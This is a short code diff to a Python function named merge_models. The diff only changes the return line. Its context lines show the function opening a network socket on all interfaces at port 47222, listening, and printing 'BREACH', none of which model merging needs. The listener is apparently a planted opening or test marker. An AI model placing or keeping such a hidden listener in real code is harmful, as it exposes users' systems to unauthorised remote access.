@@ -7,4 +7,4 @@ def merge_models(model_dict, device):
     one.bind(("0.0.0.0", 47222))
     one.listen()
     print("BREACH")
-    return list(model_dict.values())[0]
+    return next(iter(model_dict.values()))
